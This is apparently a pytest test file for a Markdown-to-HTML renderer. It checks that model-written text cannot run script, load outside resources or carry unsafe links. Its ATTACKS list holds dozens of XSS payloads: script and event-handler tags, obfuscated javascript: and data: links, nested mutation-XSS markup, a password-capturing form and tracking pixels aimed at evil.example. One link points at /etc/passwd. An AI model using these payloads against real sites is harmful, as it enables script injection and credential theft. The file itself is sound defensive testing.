"""What documents and models write cannot do anything in the page that shows it."""

from html.parser import HTMLParser

import pytest

from crucible_assets.answers.html import to_html

SAFE = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://x.example' onclick='alert(1)'>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<div id=x class=y>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x](//evil.example/x)",
    "[x](/v1/projects/delete)",
    "[x](\\\\evil.example\\x)",
    "[x](https://x.example 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: javascript:alert(1) 'title'",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "~~<iframe src=x>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "<a href=https://x.example style=position:fixed;inset:0>x</a>",
]  # fmt: skip


class Seen(HTMLParser):
    """The elements and attributes that a browser would see."""

    def __init__(self):
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_comment(self, data):
        self.elements.append("!--")

    def handle_decl(self, decl):
        self.elements.append("!")

    def handle_pi(self, data):
        self.elements.append("?")


def seen_in(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize(
    "around", ["{}", "Before {} after.", "> {}", "- {}"], ids=["alone", "inside", "quote", "item"]
)
def test_nothing_acts_or_is_fetched(attack, around):
    seen = seen_in(to_html(around.format(attack)))
    assert set(seen.elements) <= SAFE
    for element, name, value in seen.attributes:
        assert element == "a" and name in {"href", "rel", "title"}, (element, name, value)
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:")), value
        if name == "rel":
            assert value == "noopener noreferrer nofollow"


def test_what_is_harmless_is_shown():
    html = to_html(
        "# Head\n\nSome **bold**, *soft* and ~~struck~~ `code`, a [link](https://x.example/a?b=1&c=2).\n\n"
        "- item\n\n1. first\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```\n"
    )
    for part in (
        "<h1>Head</h1>", "<strong>bold</strong>", "<em>soft</em>", "<s>struck</s>", "<code>code</code>",
        'href="https://x.example/a?b=1&amp;c=2"', "<li>item</li>", "<li>first</li>", "<blockquote>", "<td>2</td>",
        "&lt;x&gt;",
    ):  # fmt: skip
        assert part in html


def test_an_attack_stays_readable_as_text():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in to_html("He wrote <script>alert(1)</script>.")
